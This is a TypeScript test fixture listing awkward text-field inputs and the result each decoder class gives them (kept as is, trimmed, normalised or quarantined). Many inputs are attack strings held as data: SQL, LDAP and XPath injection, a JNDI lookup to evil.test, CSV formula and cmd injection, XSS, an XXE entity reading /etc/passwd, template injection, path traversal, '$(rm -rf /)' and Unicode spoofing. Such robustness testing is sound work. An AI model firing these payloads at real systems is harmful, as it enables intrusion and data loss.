/**
 * What people and programs put into text fields. None of it means anything to the hub: it is carried to the letter, or, where no store and no wire could
 * carry it, its object is set aside. Decoders of texts differ in what they normalise, so a case names its outcome for each sort that differs.
 */
import type { Json } from "../../Json.ts"
import { type Expectation, accepted, leftOut, normalised, quarantined } from "./Expectation.ts"

/**
 * How a decoder takes a text.
 *
 * - `text`: as it is; may be empty
 * - `optional`: the same, and `null` is the empty text
 * - `owner`: the same, and with `null` the object belongs to something else and is left out
 * - `name`: as it is; not empty
 * - `line`: white space around it is no part of it, unless it is nothing else; not empty
 * - `markdown`: lines end with LF; `null` is the empty text
 * - `form`: only a form of its own, such as a colour; nothing of this corpus has it
 * - `unseen`: no field of the view shows it; any text is kept in the payload
 * - `unread`: the adapter does not look at it, and does not care whether it is a text; it is kept in the payload
 */
export type TextClass = "text" | "optional" | "owner" | "name" | "line" | "markdown" | "form" | "unseen" | "unread"

export interface TextCase {
  readonly id: string
  readonly input: Json
  readonly expect: { readonly [Class in TextClass]: Expectation }
}

type Given = Expectation & { readonly but?: Partial<TextCase["expect"]> }

/** `line` and `name` differ alike from `text`, and `markdown` as `optional` does, where a case says nothing else. */
const whole = ({ but = {}, ...text }: Given, input: Json): TextCase["expect"] => ({
  text,
  optional: text,
  owner: text,
  name: text,
  line: but.name ?? text,
  markdown: but.optional ?? text,
  form: quarantined(),
  unseen: typeof input === "string" ? accepted : quarantined(),
  unread: accepted,
  ...but,
})

const emptyNot = { name: quarantined(), line: quarantined() }
const trimmedTo = (to: string): Given => ({ ...accepted, but: { line: normalised(to) } })
const linesTo = (to: string): Given => ({ ...accepted, but: { markdown: normalised(to) } })
const nul = quarantined("NUL")
const half = quarantined("surrogate")
const wrongType = quarantined()

const cases: ReadonlyArray<readonly [id: string, input: Json, expect: Given]> = [
  ["plain", "Crash on start", accepted],
  ["one letter", "x", accepted],
  ["empty", "", { ...accepted, but: emptyNot }],
  ["a space", " ", accepted],
  ["white space of many kinds", "\t \u00a0\u2003\ufeff", accepted],
  ["white space around", "  Crash  ", trimmedTo("Crash")],
  ["a no-break space around", "\u00a0Crash\u00a0", trimmedTo("Crash")],
  ["a byte order mark before", "\ufeffCrash", trimmedTo("Crash")],
  ["zero", "0", accepted],
  ["false", "false", accepted],
  ["null", "null", accepted],
  ["undefined", "undefined", accepted],
  ["object Object", "[object Object]", accepted],
  ["NaN", "NaN", accepted],
  ["a number with zeros", "007.50", accepted],
  ["a number that looks like a power", "1e309", accepted],
  ["JSON in a text", '{"__proto__":{"admin":true}}', accepted],
  ["a key of the prototype", "__proto__", accepted],
  ["constructor", "constructor", accepted],
  ["SQL: the end of a statement", "'; DROP TABLE syncline.records; --", accepted],
  ["SQL: always true", "' OR '1'='1", accepted],
  ["SQL: a union", "1 UNION SELECT secret FROM grants", accepted],
  ["SQL: dollar quotes", "$$; SELECT pg_sleep(10); $$", accepted],
  ["SQL: a parameter", "$1 :name ?", accepted],
  ["SQL: a backslash before a quote", "\\'; SELECT 1; --", accepted],
  ["SQL: wildcards", "100%_\\%", accepted],
  ["SQL: an array of PostgreSQL", '{NULL,"a,b",{}}', accepted],
  ["SQL: an empty array", "{}", accepted],
  ["SQL: a row of COPY", "\\N\t\\.", accepted],
  ["NoSQL", '{"$gt":""}', accepted],
  ["LDAP", "*)(uid=*))(|(uid=*", accepted],
  ["XPath", "' or count(/)=1 or '", accepted],
  ["GraphQL", '") { viewer { token } } #', accepted],
  ["log: a line of its own", "ok\n2026-11-20 ERROR admin signed in", accepted],
  ["log: CR LF", "ok\r\nERROR forged", linesTo("ok\nERROR forged")],
  ["log: CR alone", "ok\rERROR forged", linesTo("ok\nERROR forged")],
  ["log: colours", "\u001b[31mred\u001b[0m", accepted],
  ["log: a title of the terminal", "\u001b]0;owned\u0007", accepted],
  ["log: a screen wiped", "\u001b[2J\u001b[H", accepted],
  ["log: backspaces", "safe\b\b\b\bevil", accepted],
  ["log: a bell and other controls", "\u0001\u0007\u001f\u007f\u009f", accepted],
  ["log: a lookup", "${jndi:ldap://evil.test/a}", accepted],
  ["log: a format", "%s%s%n%x %d", accepted],
  ["mail: a header", "Crash\r\nBcc: everyone@example.com", linesTo("Crash\nBcc: everyone@example.com")],
  ["CSV: a formula", '=HYPERLINK("http://evil.test","click")', accepted],
  ["CSV: a command", "=cmd|' /C calc'!A0", accepted],
  ["CSV: plus", "+1+1", accepted],
  ["CSV: minus", "-1-1", accepted],
  ["CSV: at", "@SUM(A1:A9)", accepted],
  ["CSV: a tab before a formula", "\t=1+1", trimmedTo("=1+1")],
  ["CSV: quotes and separators", 'a,"b";c', accepted],
  ["HTML: a script", "<script>alert(1)</script>", accepted],
  ["HTML: an image", '<img src=x onerror="alert(1)">', accepted],
  ["HTML: out of an attribute", '" onmouseover="alert(1)', accepted],
  ["HTML: entities", "&lt;b&gt; &amp;amp; &#x27;", accepted],
  ["HTML: out of a script", "</script><svg/onload=alert(1)>", accepted],
  ["HTML: a comment", "<!-- hidden --> shown", accepted],
  ["HTML: a link that runs", "javascript:alert(1)", accepted],
  ["Markdown: a link that runs", "[click](javascript:alert(1))", accepted],
  ["Markdown: an image that tells", "![](https://evil.test/pixel.gif)", accepted],
  ["Markdown: a mention", "@everyone please", accepted],
  ["XML: an entity", '<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>', accepted],
  ["template: braces", "{{constructor.constructor('return this')()}}", accepted],
  ["template: dollar", "${7*7}", accepted],
  ["template: percent", "<%= 7*7 %>", accepted],
  ["template: replacement patterns", "$& $1 $` $' $$", accepted],
  ["path: up", "../../../../etc/passwd", accepted],
  ["path: up, escaped", "..%2f..%2fetc%2fpasswd", accepted],
  ["path: of Windows", "..\\..\\windows\\win.ini", accepted],
  ["path: a device", "CON", accepted],
  ["path: an address", "file:///etc/passwd", accepted],
  ["shell: a command", "$(rm -rf /) `id` ; ls | cat && true", accepted],
  ["Unicode: an emoji of several", "👩‍👩‍👧‍👦 🏳️‍🌈 🇩🇪", accepted],
  ["Unicode: composed", "caf\u00e9", accepted],
  ["Unicode: decomposed", "cafe\u0301", accepted],
  ["Unicode: many marks", `z${"\u0351".repeat(200)}`, accepted],
  ["Unicode: right to left", "שלום עולם مرحبا", accepted],
  ["Unicode: turned round", "invoice\u202egpj.exe", accepted],
  ["Unicode: isolates", "\u2066a\u2067b\u2069", accepted],
  ["Unicode: of no width", "pass\u200bword\u200d\u2060", accepted],
  ["Unicode: tags", "\u{e0001}\u{e0068}\u{e0069}", accepted],
  ["Unicode: letters that look alike", "раураl.com", accepted],
  ["Unicode: letters that change their number", "ß İ ı ﬁ ŉ", accepted],
  ["Unicode: no characters", "\ufffe\uffff\ufdd0", accepted],
  ["Unicode: a replacement that was sent", "caf\ufffd", accepted],
  ["Unicode: the last of all", "\u{10ffff}", accepted],
  ["Unicode: line separators", "a\u2028b\u2029c\u0085d", accepted],
  ["Unicode: once read as Latin-1", "cafÃ© â€œquotedâ€\u009d", accepted],
  ["lines of Unix", "a\n\nb\n", { ...accepted, but: { line: normalised("a\n\nb") } }],
  [
    "lines of all systems",
    "a\r\nb\rc\nd\r\n\r\n",
    { ...accepted, but: { line: normalised("a\r\nb\rc\nd"), markdown: normalised("a\nb\nc\nd\n\n") } },
  ],
  ["70,000 characters", "x".repeat(70_000), accepted],
  ["20,000 lines", "- item\n".repeat(20_000), { ...accepted, but: { line: normalised("- item\n".repeat(20_000).slice(0, -1)) } }],
  ["NUL", "a\u0000b", nul],
  ["NUL alone", "\u0000", nul],
  ["the first half of a pair", "a\ud83d", half],
  ["the second half of a pair", "\ude00b", half],
  ["the halves turned round", "\ude00\ud83d", half],
  ["no text: null", null, { ...wrongType, but: { optional: normalised(""), owner: leftOut } }],
  ["no text: a number", 42, wrongType],
  ["no text: zero", 0, wrongType],
  ["no text: false", false, wrongType],
  ["no text: a list", ["Crash"], wrongType],
  ["no text: an empty list", [], wrongType],
  ["no text: an object", { text: "Crash" }, wrongType],
  ["no text: an object with a way to become one", { toString: "Crash", valueOf: "Crash" }, wrongType],
]

export const texts: ReadonlyArray<TextCase> = cases.map(([id, input, given]) => ({ id: `text: ${id}`, input, expect: whole(given, input) }))
